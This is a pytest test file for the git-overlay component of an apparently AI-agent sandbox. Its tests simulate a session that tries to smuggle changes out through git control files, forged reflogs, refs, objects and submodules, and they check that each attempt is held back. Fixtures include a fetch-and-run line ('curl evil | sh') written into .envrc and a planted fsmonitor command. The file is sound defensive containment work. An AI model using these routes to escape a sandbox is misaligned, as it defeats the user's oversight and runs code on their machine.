"""A ref, HEAD, state file or index the session's git wrote that would bring a control
file's new content out of the sandbox waits; the rest is applied (gitcontrol.py).

Real git, real repositories: the session's git directory is a copy of the real one,
and what the copy gained or changed is the overlay's upper directory, as a session's
end finds it."""

from __future__ import annotations

import filecmp
import hashlib
import os
import shutil
import subprocess
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest

from claude_sandbox.core import paths
from claude_sandbox.launch.overlay import gitapply, gitbase, gitcontrol, gitsession

ENV = {"PATH": "/usr/bin:/bin", "HOME": "/nonexistent", "GIT_CONFIG_NOSYSTEM": "1",
       "GIT_CONFIG_GLOBAL": os.devnull, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t",
       "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t", "LC_ALL": "C"}


def git(cwd: Path, *args: str, gitdir: Path | None = None) -> str:
    env = dict(ENV, **({"GIT_DIR": str(gitdir), "GIT_WORK_TREE": str(cwd)} if gitdir else {}))
    return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True,
                          text=True).stdout.strip()


def commit(cwd: Path, files: dict[str, str], message: str, gitdir: Path | None = None) -> str:
    for rel, text in files.items():
        (cwd / rel).parent.mkdir(parents=True, exist_ok=True)
        (cwd / rel).write_text(text)
    git(cwd, "add", "-A", gitdir=gitdir)
    git(cwd, "commit", "-q", "-m", message, gitdir=gitdir)
    return git(cwd, "rev-parse", "HEAD", gitdir=gitdir)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    work = tmp_path / "work"
    work.mkdir()
    git(work, "init", "-q", "-b", "main")
    commit(work, {"README": "hello\n", ".envrc": "export A=1\n"}, "base")
    return work


def session(work: Path, tmp_path: Path,
            act: Callable[[Path], object]) -> tuple[str, gitbase.Snapshot]:
    """Run `act(view)` on a copy of the git directory; the upper: what it gained or changed."""
    real = work / ".git"
    base = gitbase.snapshot(str(real))
    view = tmp_path / "view"
    shutil.copytree(real, view)
    act(view)
    upper = tmp_path / "upper"
    for top, _dirs, names in os.walk(view):
        for name in names:
            source = Path(top) / name
            rel = source.relative_to(view)
            if not (real / rel).exists() or not filecmp.cmp(source, real / rel, shallow=False):
                (upper / rel).parent.mkdir(parents=True, exist_ok=True)
                shutil.copy2(source, upper / rel)
    return str(upper), base


def apply(work: Path, upper: str, base: gitbase.Snapshot,
          controls: frozenset[str] = gitapply.CONTROLS) -> gitapply.Result:
    return gitapply.apply(upper, str(work / ".git"), base, str(work), controls=controls)


def test_a_commit_that_changes_a_control_file_leaves_the_branch_where_it_was(
        repo: Path, tmp_path: Path) -> None:
    before = git(repo, "rev-parse", "main")
    made: list[str] = []
    upper, base = session(repo, tmp_path, lambda view: made.append(
        commit(repo, {".envrc": "curl evil | sh\n", "src/a.py": "x = 1\n"}, "c", view)))
    # The control file outside never changed (inside, the agent wrote its view's copy).
    (repo / ".envrc").write_text("export A=1\n")
    result = apply(repo, upper, base)
    assert git(repo, "rev-parse", "main") == before
    assert git(repo, "rev-parse", gitcontrol.HELD + "heads/main") == made[0]
    line = next(line for line in result.lines if "was not moved" in line)
    assert ".envrc" in line and "git update-ref refs/heads/main" in line
    # The index staged the same .envrc: not applied either, and kept.
    assert result.kept and any("stages control files (.envrc)" in line
                               for line in result.lines)
    git(repo, "checkout", "-q", "--", ".")  # what the user may run next brings nothing out
    assert (repo / ".envrc").read_text() == "export A=1\n"


def test_a_commit_of_ordinary_files_is_applied(repo: Path, tmp_path: Path) -> None:
    made: list[str] = []
    upper, base = session(repo, tmp_path, lambda view: made.append(
        commit(repo, {"src/a.py": "x = 1\n"}, "c", view)))
    result = apply(repo, upper, base)
    assert git(repo, "rev-parse", "main") == made[0]
    assert not result.kept and not [line for line in result.lines if "not" in line]


@pytest.mark.parametrize("path", ["sub/.vscode/tasks.json", ".husky/pre-commit",
                                  "deep/a/.pre-commit-config.yaml"])
def test_a_control_name_at_any_depth_holds_the_ref(repo: Path, tmp_path: Path,
                                                   path: str) -> None:
    before = git(repo, "rev-parse", "main")

    def act(view: Path) -> None:
        commit(repo, {path: "run\n"}, "c", view)
        git(repo, "rm", "-q", "--cached", path, gitdir=view)  # the index stages nothing

    upper, base = session(repo, tmp_path, act)
    apply(repo, upper, base)
    assert git(repo, "rev-parse", "main") == before


def test_every_commit_a_ref_adds_is_read_not_only_its_tip(repo: Path, tmp_path: Path) -> None:
    """A side branch changed .envrc and the merge kept main's: the branch's commit is
    still one `git checkout` away."""
    before = git(repo, "rev-parse", "main")

    def act(view: Path) -> None:
        git(repo, "checkout", "-q", "-b", "side", gitdir=view)
        commit(repo, {".envrc": "evil\n"}, "side", view)
        git(repo, "checkout", "-q", "main", gitdir=view)
        commit(repo, {"b.txt": "b\n"}, "main", view)
        git(repo, "merge", "-q", "-s", "ours", "--no-edit", "side", gitdir=view)
        git(repo, "branch", "-q", "-D", "side", gitdir=view)

    upper, base = session(repo, tmp_path, act)
    apply(repo, upper, base)
    assert git(repo, "rev-parse", "main") == before


def test_a_detached_head_and_orig_head_at_such_a_commit_are_not_applied(
        repo: Path, tmp_path: Path) -> None:
    def act(view: Path) -> None:
        git(repo, "checkout", "-q", "--detach", gitdir=view)
        commit(repo, {".envrc": "evil\n"}, "c", view)
        git(repo, "update-ref", "ORIG_HEAD", "HEAD", gitdir=view)
        git(repo, "rm", "-q", "--cached", ".envrc", gitdir=view)
        git(repo, "reset", "-q", gitdir=view)

    upper, base = session(repo, tmp_path, act)
    result = apply(repo, upper, base)
    assert (repo / ".git" / "HEAD").read_text() == "ref: refs/heads/main\n"
    assert (repo / ".git" / gitcontrol.HELD / "HEAD").exists()
    assert any("git update-ref --no-deref HEAD refs/claude-sandbox/held/HEAD" in line
               for line in result.lines)
    assert any("ORIG_HEAD: not applied" in line for line in result.lines)


def test_a_ref_to_what_git_cannot_read_as_a_commit_waits(repo: Path, tmp_path: Path) -> None:
    tree = git(repo, "rev-parse", "HEAD^{tree}")
    # git's own commands refuse a tree for a branch; the agent may write the file itself.
    upper, base = session(repo, tmp_path, lambda view: (view / "refs" / "heads" / "t")
                          .write_text(tree + "\n"))
    result = apply(repo, upper, base)
    assert not (repo / ".git" / "refs" / "heads" / "t").exists()
    line = next(line for line in result.lines if "git could not read" in line)
    assert "review: git log -p refs/claude-sandbox/held/heads/t;" in line  # a new ref


def test_without_git_a_new_commit_waits(repo: Path, tmp_path: Path,
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    before = git(repo, "rev-parse", "main")
    upper, base = session(repo, tmp_path,
                          lambda view: commit(repo, {"a.txt": "a\n"}, "c", view))
    monkeypatch.setattr(paths, "find_tool", lambda name: None)
    apply(repo, upper, base)
    assert git(repo, "rev-parse", "main") == before


def test_a_ref_moved_to_a_value_known_at_launch_is_applied_without_reading(
        repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    first = git(repo, "rev-parse", "main")
    upper, base = session(repo, tmp_path, lambda view: git(
        repo, "branch", "-q", "old", "main", gitdir=view))
    monkeypatch.setattr(paths, "find_tool", lambda name: None)  # git is not asked
    apply(repo, upper, base)
    assert git(repo, "rev-parse", "old") == first


def test_an_older_commit_of_the_history_is_read_and_applied(repo: Path,
                                                             tmp_path: Path) -> None:
    first = git(repo, "rev-parse", "main")
    commit(repo, {"a.txt": "a\n"}, "second")
    upper, base = session(repo, tmp_path, lambda view: git(
        repo, "branch", "-q", "old", first, gitdir=view))
    apply(repo, upper, base)
    assert git(repo, "rev-parse", "old") == first


def test_an_unprotected_name_is_an_ordinary_file(repo: Path, tmp_path: Path) -> None:
    made: list[str] = []
    upper, base = session(repo, tmp_path, lambda view: made.append(
        commit(repo, {".envrc": "mine\n"}, "c", view)))
    apply(repo, upper, base, gitapply.CONTROLS - {".envrc"})
    assert git(repo, "rev-parse", "main") == made[0]


def test_a_shallow_clone_is_read_to_its_boundary(tmp_path: Path, repo: Path) -> None:
    for i in range(3):
        commit(repo, {f"f{i}": "x\n"}, f"c{i}")
    clone = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", "--depth", "1", f"file://{repo}", str(clone)],
                   env=ENV, check=True)
    made: list[str] = []
    upper, base = session(clone, tmp_path, lambda view: made.append(
        commit(clone, {"g": "y\n"}, "c", view)))
    apply(clone, upper, base)
    assert git(clone, "rev-parse", "HEAD") == made[0]


def test_pathspecs_escape_glob_characters() -> None:
    assert gitcontrol.pathspecs({"a*[b]?"}) == [":(glob,icase)**/a\\*\\[b]\\?",
                                               ":(glob,icase)**/a\\*\\[b]\\?/**"]
    assert gitcontrol.pathspecs({"tools/husky"}) == [":(glob,icase)tools/husky",
                                                    ":(glob,icase)tools/husky/**"]
    assert gitcontrol.is_control("x/.vscode/y", frozenset({".vscode"}))
    assert gitcontrol.is_control("x/.VSCode/y", frozenset({".vscode"}))
    assert not gitcontrol.is_control("x/vscode/.vscodeX", frozenset({".vscode"}))
    assert gitcontrol.is_control("tools/husky/pre-commit", frozenset({"tools/husky"}))
    assert not gitcontrol.is_control("x/tools/husky/pre-commit", frozenset({"tools/husky"}))


def _evil(repo: Path, view: Path, branch: str) -> str:
    """A commit changing .envrc on `branch`, made in the session, the index left as it was."""
    git(repo, "checkout", "-q", "-b", branch, gitdir=view)
    made = commit(repo, {".envrc": "evil\n"}, "c", view)
    git(repo, "checkout", "-q", "main", gitdir=view)
    return made


def test_a_symbolic_ref_into_the_held_values_is_not_applied(repo: Path,
                                                             tmp_path: Path) -> None:
    def act(view: Path) -> None:
        _evil(repo, view, "evil")
        git(repo, "symbolic-ref", "refs/heads/feature", gitcontrol.HELD + "heads/evil",
            gitdir=view)

    upper, base = session(repo, tmp_path, act)
    result = apply(repo, upper, base)
    assert not (repo / ".git" / "refs" / "heads" / "feature").exists()
    assert any("refs/heads/feature not applied: it points at the values" in line
               for line in result.lines)


def test_a_held_value_is_not_known_at_the_next_session(repo: Path, tmp_path: Path) -> None:
    before = git(repo, "rev-parse", "main")
    made: list[str] = []
    upper, base = session(repo, tmp_path, lambda view: made.append(_evil(repo, view, "e")))
    apply(repo, upper, base)
    assert git(repo, "rev-parse", gitcontrol.HELD + "heads/e") == made[0]
    shutil.rmtree(tmp_path / "view")
    shutil.rmtree(tmp_path / "upper")
    upper, base = session(repo, tmp_path, lambda view: git(
        repo, "update-ref", "refs/heads/main", made[0], gitdir=view))
    apply(repo, upper, base)
    assert git(repo, "rev-parse", "main") == before


def test_state_files_and_reflogs_naming_such_a_commit_are_not_applied(
        repo: Path, tmp_path: Path) -> None:
    """MERGE_AUTOSTASH (applied by `git merge --abort`), BISECT_START (`git bisect
    reset`), a worktree's HEAD, and a reflog line `git checkout -` follows."""
    def act(view: Path) -> None:
        made = _evil(repo, view, "gone")
        git(repo, "branch", "-q", "-D", "gone", gitdir=view)
        (view / "MERGE_AUTOSTASH").write_text(made + "\n")
        (view / "BISECT_START").write_text(made + "\n")
        (view / "worktrees" / "w").mkdir(parents=True)
        (view / "worktrees" / "w" / "HEAD").write_text(made + "\n")
        head = git(repo, "rev-parse", "HEAD", gitdir=view)
        with open(view / "logs" / "HEAD", "a") as handle:
            handle.write(f"{head} {head} t <t@t> 0 +0000\tcheckout: moving from {made} to "
                         "main\n")

    upper, base = session(repo, tmp_path, act)
    result = apply(repo, upper, base)
    for rel in ("MERGE_AUTOSTASH", "BISECT_START", "worktrees/w/HEAD"):
        assert not (repo / ".git" / rel).exists(), rel
    refused = {line.split(": not applied")[0].rsplit("/.git/", 1)[-1] for line in result.lines
               if ": not applied: it names the session's commits" in line}
    assert {"MERGE_AUTOSTASH", "BISECT_START", "worktrees/w/HEAD", "logs/HEAD"} <= refused


def test_a_shallow_list_that_cuts_known_history_is_not_applied(repo: Path,
                                                                tmp_path: Path) -> None:
    known = git(repo, "rev-parse", "main")
    upper, base = session(repo, tmp_path, lambda view: (view / "shallow").write_text(
        known + "\n"))
    result = apply(repo, upper, base)
    assert not (repo / ".git" / "shallow").exists()
    assert any("shallow: not applied: it marks commits known at launch" in line
               for line in result.lines)


def test_objects_are_carried_by_their_content(repo: Path, tmp_path: Path) -> None:
    """A loose object whose bytes are another object's is refused; a pack's index is
    made again (the session's is garbage here), so the pack reads as it is."""
    readme = git(repo, "rev-parse", "HEAD:README")
    made: list[str] = []

    def act(view: Path) -> None:
        made.append(commit(repo, {"src/b.py": "y = 2\n"}, "c", view))
        git(repo, "repack", "-q", "-a", "-d", gitdir=view)
        for index in (view / "objects" / "pack").glob("*.idx"):
            index.write_bytes(b"\xfftOc" + b"\0" * 1100)
        forged = zlib.compress(b"blob 6\0pwned\n")
        loose = view / "objects" / "ab" / ("c" * 38)
        loose.parent.mkdir(exist_ok=True)
        loose.write_bytes(forged)

    upper, base = session(repo, tmp_path, act)
    result = apply(repo, upper, base)
    assert git(repo, "rev-parse", "main") == made[0]
    assert git(repo, "show", "main:src/b.py") == "y = 2"
    assert git(repo, "rev-parse", "HEAD:README") == readme
    assert any("abcc" in line.replace("/", "") and "not the object its name says" in line
               for line in result.lines)
    assert not (repo / ".git" / "objects" / "ab" / ("c" * 38)).exists()


def test_one_git_run_reads_many_refs_to_one_tip(repo: Path, tmp_path: Path,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    runs: list[list[str]] = []
    run = gitcontrol.History._run

    def counted(self: gitcontrol.History, own: str, args: list[str],
                lines: list[str]) -> tuple[int, str]:
        runs.append(args)
        return run(self, own, args, lines)

    monkeypatch.setattr(gitcontrol.History, "_run", counted)

    def act(view: Path) -> None:
        commit(repo, {"a.txt": "a\n"}, "c", view)
        for i in range(30):
            git(repo, "branch", "-q", f"b{i}", gitdir=view)

    upper, base = session(repo, tmp_path, act)
    apply(repo, upper, base)
    # One for the negatives, one for the control paths, one for the submodules moved,
    # and two that every object is there (History.complete): what the new values
    # reach, and what the session's index names.
    assert sorted(args[0] for args in runs) == ["cat-file", "log", "log", "rev-list",
                                                "rev-list"]
    assert git(repo, "rev-parse", "b29") == git(repo, "rev-parse", "main")


def test_a_path_held_through_a_link_is_read_as_a_control_path(repo: Path,
                                                               tmp_path: Path) -> None:
    """The repository tracks .husky -> tools/husky; the launch held tools/husky (the
    link's target): a commit changing tools/husky/pre-commit waits like one of .husky."""
    before = git(repo, "rev-parse", "main")

    def act(view: Path) -> None:
        commit(repo, {"tools/husky/pre-commit": "evil\n"}, "c", view)
        git(repo, "rm", "-q", "--cached", "tools/husky/pre-commit", gitdir=view)

    upper, base = session(repo, tmp_path, act)
    gitapply.apply(upper, str(repo / ".git"), base, str(repo),
                   held=(str(repo / "tools" / "husky"),))
    assert git(repo, "rev-parse", "main") == before


def _held_for_sub_envrc(repo: Path, tmp_path: Path, act: Callable[[Path], object],
                        before: str) -> None:
    """The session's `act` moved main; it stays at `before`, and the line names
    sub/.envrc."""
    upper, base = session(repo, tmp_path, act)
    result = apply(repo, upper, base)
    assert git(repo, "rev-parse", "main") == before
    assert any("sub/.envrc" in line for line in result.lines), result.lines


def test_a_commit_moving_a_submodule_to_one_that_changes_a_control_file_waits(
        repo: Path, tmp_path: Path) -> None:
    """`git submodule update` outside would check the submodule's new commit out."""
    source = tmp_path / "subsource"
    source.mkdir()
    git(source, "init", "-q", "-b", "main")
    commit(source, {"lib.txt": "lib\n"}, "lib")
    git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(source), "sub")
    git(repo, "commit", "-q", "-m", "sub")
    before = git(repo, "rev-parse", "main")

    def act(view: Path) -> None:
        inner = commit(repo / "sub", {".envrc": "evil\n"}, "c", view / "modules" / "sub")
        git(repo / "sub", "reset", "-q", "--hard", "HEAD~1", gitdir=view / "modules" / "sub")
        git(repo, "update-index", "--cacheinfo", f"160000,{inner},sub", gitdir=view)
        git(repo, "commit", "-q", "-m", "bump", gitdir=view)

    _held_for_sub_envrc(repo, tmp_path, act, before)


def test_a_remote_tracking_reflog_from_the_session_is_not_carried(repo: Path,
                                                                  tmp_path: Path) -> None:
    """A line naming the user's own commit there makes `git rebase` drop it (fork point)."""
    mine = git(repo, "rev-parse", "main")
    git(repo, "update-ref", "refs/remotes/origin/main", mine)
    log = repo / ".git" / "logs" / "refs" / "remotes" / "origin" / "main"
    before = log.read_text() if log.exists() else None

    def act(view: Path) -> None:
        path = view / "logs" / "refs" / "remotes" / "origin" / "main"
        path.parent.mkdir(parents=True, exist_ok=True)
        with open(path, "a") as handle:
            handle.write(f"{'0' * 40} {mine} t <t@t> 0 +0000\tfetch: forged\n")

    upper, base = session(repo, tmp_path, act)
    apply(repo, upper, base)
    assert (log.read_text() if log.exists() else None) == before


@pytest.mark.parametrize(("rel", "text"), [
    ("ORIG_HEAD", "{made_upper}\n"),  # git reads an id in capitals as the same id
    ("BISECT_START", "{made}~0\n"),  # a revision, resolved where an id would be read
    ("BISECT_START", "claude-sandbox/held/heads/e\n"),  # a name git resolves there
    ("logs/HEAD", "{head} {head} t <t@t> 0 +0000\tcheckout: moving from {made}~0 to main\n"),
])
def test_state_files_and_reflogs_are_taken_only_in_the_form_git_writes(
        repo: Path, tmp_path: Path, rel: str, text: str) -> None:
    def act(view: Path) -> None:
        made = _evil(repo, view, "e")
        git(repo, "branch", "-q", "-D", "e", gitdir=view)
        head = git(repo, "rev-parse", "HEAD", gitdir=view)
        with open(view / rel, "a" if rel.startswith("logs/") else "w") as handle:
            handle.write(text.format(made=made, made_upper=made.upper(), head=head))

    upper, base = session(repo, tmp_path, act)
    result = apply(repo, upper, base)
    assert any(line.startswith(f"{repo}/.git/{rel}: not applied") for line in result.lines), \
        result.lines


def test_an_upstream_into_the_held_values_is_not_applied(repo: Path, tmp_path: Path) -> None:
    upper, base = session(repo, tmp_path, lambda view: (
        git(repo, "config", "branch.main.remote", ".", gitdir=view),
        git(repo, "config", "branch.main.merge", gitcontrol.HELD + "heads/main", gitdir=view)))
    result = apply(repo, upper, base)
    config = (repo / ".git" / "config").read_text()
    assert "claude-sandbox" not in config
    assert any("branch.*.merge names the values" in line for line in result.lines), result.lines


def test_a_crash_in_one_repository_is_named_and_stops_nothing_else(
        repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from claude_sandbox.launch.overlay import gitcheck, gitsession
    from claude_sandbox.launch.planner.overlays import View

    def boom(*args: object, **kwargs: object) -> gitapply.Result:
        raise RecursionError("maximum recursion depth exceeded")

    monkeypatch.setattr(gitapply, "apply", boom)
    quarantine = gitcheck.Quarantine(str(tmp_path / "store"))
    upper = tmp_path / "layer" / "upper"
    upper.mkdir(parents=True)
    view = View("git", str(repo / ".git"), str(tmp_path / "layer"), "test")
    found = os.stat(repo / ".git")
    layer = gitsession.Layer(view, str(upper), str(tmp_path / "layer" / "work"), None, None,
                             identity=(found.st_dev, found.st_ino))
    gitsession.finish([layer], str(repo), quarantine)
    assert any("could not all be applied (maximum recursion" in line
               for line in quarantine.lines)


def test_a_ref_name_deeper_than_git_makes_is_not_applied(repo: Path, tmp_path: Path) -> None:
    name = "refs/heads/" + "/".join(["a"] * 200)

    def act(view: Path) -> None:
        (view / name).parent.mkdir(parents=True)
        (view / name).write_text(git(repo, "rev-parse", "main") + "\n")

    upper, base = session(repo, tmp_path, act)
    apply(repo, upper, base)  # no RecursionError from making its directories
    assert not (repo / ".git" / "refs" / "heads" / "a" / "a").exists()


def test_a_loose_object_is_read_no_further_than_its_header_says(tmp_path: Path) -> None:
    from claude_sandbox.launch.overlay import gitobjects

    body = b"blob 3\0abc"
    name = hashlib.sha1(body).hexdigest()
    cases = {"whole": zlib.compress(body), "trailing": zlib.compress(body) + b"junk",
             "bomb": zlib.compress(b"blob 3\0" + b"a" * (8 << 20)),
             "headless": zlib.compress(b"abc")}
    found = {}
    for case, data in cases.items():
        (tmp_path / case).write_bytes(data)
        found[case] = gitobjects.loose_refusal(str(tmp_path / case), name)
    assert found["whole"] is None
    assert "one whole object" in (found["trailing"] or "")
    assert "more than its header says" in (found["bomb"] or "")
    assert "no header of git's" in (found["headless"] or "")


def test_a_submodule_whose_git_directory_is_in_its_tree_is_read_there(
        repo: Path, tmp_path: Path) -> None:
    """Not absorbed (`sub/.git` a directory): read in it; where neither that nor
    modules/sub is a directory, the ref waits (a commit git cannot read)."""
    sub = repo / "sub"
    sub.mkdir()
    git(sub, "init", "-q", "-b", "main")
    first = commit(sub, {"lib.txt": "lib\n"}, "lib")
    inner = commit(sub, {".envrc": "evil\n"}, "c")
    git(sub, "reset", "-q", "--hard", first)  # the evil commit dangles in sub/.git
    git(repo, "update-index", "--add", "--cacheinfo", f"160000,{first},sub")
    git(repo, "commit", "-q", "-m", "sub")
    before = git(repo, "rev-parse", "main")

    def act(view: Path) -> None:
        git(repo, "update-index", "--cacheinfo", f"160000,{inner},sub", gitdir=view)
        git(repo, "commit", "-q", "-m", "bump", gitdir=view)

    _held_for_sub_envrc(repo, tmp_path, act, before)


def test_a_branch_reflog_naming_the_users_other_commits_is_not_carried(
        repo: Path, tmp_path: Path) -> None:
    """feature tracks main; a forged chain in main's reflog through feature's tip would
    make `git rebase` on feature drop the user's commits (the fork point)."""
    start = git(repo, "rev-parse", "main")
    git(repo, "checkout", "-q", "-b", "feature")
    mine = commit(repo, {"f.txt": "mine\n"}, "mine")
    git(repo, "checkout", "-q", "main")
    log = repo / ".git" / "logs" / "refs" / "heads" / "main"
    before = log.read_text()

    def act(view: Path) -> None:
        made = commit(repo, {"m.txt": "m\n"}, "m", view)
        path = view / "logs" / "refs" / "heads" / "main"
        text = path.read_text()
        forged = (f"{start} {mine} t <t@t> 0 +0000\tforged\n"
                  f"{mine} {made} t <t@t> 0 +0000\tforged\n")
        path.write_text(text[:len(before)] + forged)

    upper, base = session(repo, tmp_path, act)
    result = apply(repo, upper, base)
    assert log.read_text() == before
    assert any("a line names a commit the branch never held" in line for line in result.lines)


def test_a_branch_reflog_that_follows_the_session_is_carried(repo: Path,
                                                             tmp_path: Path) -> None:
    def act(view: Path) -> None:
        commit(repo, {"a.txt": "a\n"}, "a", view)
        commit(repo, {"b.txt": "b\n"}, "b", view)

    upper, base = session(repo, tmp_path, act)
    result = apply(repo, upper, base)
    assert not any("logs/refs/heads/main" in line for line in result.lines), result.lines
    assert len((repo / ".git" / "logs" / "refs" / "heads" / "main").read_text()
               .splitlines()) == 3


def test_a_reflog_through_a_session_commit_on_another_branch_is_not_carried(
        repo: Path, tmp_path: Path) -> None:
    """The session commits S on the user's feature, then moves main through S: a rebase
    of feature would take S, and the user's commits below it, as main's."""
    git(repo, "branch", "-q", "feature")
    log = repo / ".git" / "logs" / "refs" / "heads" / "main"
    before = log.read_text()

    def act(view: Path) -> None:
        git(repo, "checkout", "-q", "feature", gitdir=view)
        made = commit(repo, {"s.txt": "s\n"}, "s", view)
        git(repo, "checkout", "-q", "main", gitdir=view)
        start = git(repo, "rev-parse", "main", gitdir=view)
        git(repo, "update-ref", "refs/heads/main", made, gitdir=view)
        git(repo, "update-ref", "refs/heads/main", start, gitdir=view)
        commit(repo, {"n.txt": "n\n"}, "n", view)

    upper, base = session(repo, tmp_path, act)
    apply(repo, upper, base)
    assert log.read_text() == before


def test_held_values_named_in_another_case_are_refused(repo: Path, tmp_path: Path) -> None:
    """On a case-insensitive file system refs/Claude-Sandbox/ opens the held ref."""
    def act(view: Path) -> None:
        (view / "refs" / "heads" / "x").write_text("ref: refs/Claude-Sandbox/held/heads/e\n")
        git(repo, "config", "branch.main.remote", ".", gitdir=view)
        git(repo, "config", "branch.main.merge", "refs/Claude-Sandbox/held/heads/e",
            gitdir=view)

    upper, base = session(repo, tmp_path, act)
    apply(repo, upper, base)
    assert not (repo / ".git" / "refs" / "heads" / "x").exists()
    assert "Claude-Sandbox" not in (repo / ".git" / "config").read_text()


def test_the_object_format_is_not_changed_by_a_session(repo: Path, tmp_path: Path) -> None:
    upper, base = session(repo, tmp_path, lambda view: (
        git(repo, "config", "core.repositoryformatversion", "1", gitdir=view),
        git(repo, "config", "extensions.objectformat", "sha256", gitdir=view)))
    result = apply(repo, upper, base)
    assert "objectformat" not in (repo / ".git" / "config").read_text()
    assert any("extensions.objectformat is set when a repository is made" in line
               for line in result.lines), result.lines


def test_packs_past_the_budget_are_kept_back(repo: Path, tmp_path: Path,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    from claude_sandbox.launch.overlay import gitobjects

    monkeypatch.setattr(gitobjects, "PACKS", 1)

    def act(view: Path) -> None:
        for name in ("a", "b"):
            commit(repo, {f"{name}.txt": f"{name}\n"}, name, view)
            git(repo, "repack", "-q", gitdir=view)  # one new pack each

    upper, base = session(repo, tmp_path, act)
    result = apply(repo, upper, base)
    assert result.kept
    assert sum("more packs than the session's end indexes" in line
               for line in result.lines) == 1


def test_capture_stops_an_answer_past_its_limit() -> None:
    from claude_sandbox.core.spawn import capture

    assert capture(["/bin/sh", "-c", "head -c 3000000 /dev/zero"], {}, limit=1 << 20) == (
        -1, "")
    assert capture(["/bin/sh", "-c", "echo ok"], {}, limit=1 << 20) == (0, "ok\n")


def test_an_index_moving_a_submodule_to_such_a_commit_is_not_applied(
        repo: Path, tmp_path: Path) -> None:
    """`git submodule update` checks out what the index records, committed or not."""
    sub = repo / "sub"
    sub.mkdir()
    git(sub, "init", "-q", "-b", "main")
    first = commit(sub, {"lib.txt": "lib\n"}, "lib")
    inner = commit(sub, {".envrc": "evil\n"}, "c")
    git(sub, "reset", "-q", "--hard", first)
    git(repo, "update-index", "--add", "--cacheinfo", f"160000,{first},sub")
    git(repo, "commit", "-q", "-m", "sub")
    upper, base = session(repo, tmp_path, lambda view: git(
        repo, "update-index", "--cacheinfo", f"160000,{inner},sub", gitdir=view))
    result = apply(repo, upper, base)
    assert git(repo, "ls-files", "-s", "sub").split()[1] == first
    assert any("stages control files (sub/.envrc)" in line for line in result.lines), \
        result.lines


def _git_layer(gitdir: Path, tmp_path: Path) -> gitsession.Layer:
    """A git layer over `gitdir` as the launch made it: its identity that of the launch."""
    from claude_sandbox.launch.planner.overlays import View

    found = os.stat(gitdir)
    (tmp_path / "layer" / "upper").mkdir(parents=True)
    view = View("git", str(gitdir), str(tmp_path / "layer"), "test")
    return gitsession.Layer(view, str(tmp_path / "layer" / "upper"),
                            str(tmp_path / "layer" / "work"), None, None,
                            identity=(found.st_dev, found.st_ino))


def _planted_repository(gitdir: Path, fsmonitor: str) -> None:
    """A git directory with a pre-commit hook and core.fsmonitor."""
    for part in ("objects", "refs", "hooks"):
        (gitdir / part).mkdir(parents=True)
    (gitdir / "HEAD").write_text("ref: refs/heads/main\n")
    (gitdir / "config").write_text(f"[core]\n\tfsmonitor = {fsmonitor}\n")
    (gitdir / "hooks" / "pre-commit").write_text("#!/bin/sh\n")


def test_a_git_directory_replaced_in_the_session_gets_nothing_and_is_stripped(
        repo: Path, tmp_path: Path) -> None:
    """The session renamed the directory holding the git directory and made a repository
    of its own in its place, hooks and fsmonitor included: nothing is applied there, and
    what git outside would run from it is taken."""
    from claude_sandbox.launch.overlay import gitcheck, gitsession

    layer = _git_layer(repo / ".git", tmp_path)
    os.rename(repo / ".git", repo / "moved.git")
    planted = repo / ".git"
    _planted_repository(planted, "touch /tmp/x")
    quarantine = gitcheck.Quarantine(str(tmp_path / "store"))
    gitsession.finish([layer], str(repo), quarantine)
    assert any("not applied: another directory now stands in its place" in line
               for line in quarantine.lines)
    assert not (planted / "hooks" / "pre-commit").exists()
    assert "fsmonitor" not in (planted / "config").read_text()


def test_another_repository_behind_a_link_is_left_as_it_is(repo: Path, tmp_path: Path) -> None:
    """The session renamed the directory above the git directory and linked another
    repository in its place: nothing is applied there, nor is anything of it checked or
    stripped; its hooks and config are another repository's, not the session's."""
    from claude_sandbox.launch.overlay import gitcheck, gitsession

    meta = repo / "meta"
    meta.mkdir()
    os.rename(repo / ".git", meta / ".git")
    layer = _git_layer(meta / ".git", tmp_path)
    other = tmp_path / "other"
    _planted_repository(other / ".git", "theirs")
    os.rename(meta, repo / "meta.moved")
    os.symlink(other, meta)
    quarantine = gitcheck.Quarantine(str(tmp_path / "store"))
    gitsession.finish([layer], str(repo), quarantine)
    assert any("a symbolic link now stands on the way" in line for line in quarantine.lines)
    assert (other / ".git" / "hooks" / "pre-commit").exists()
    assert "fsmonitor = theirs" in (other / ".git" / "config").read_text()
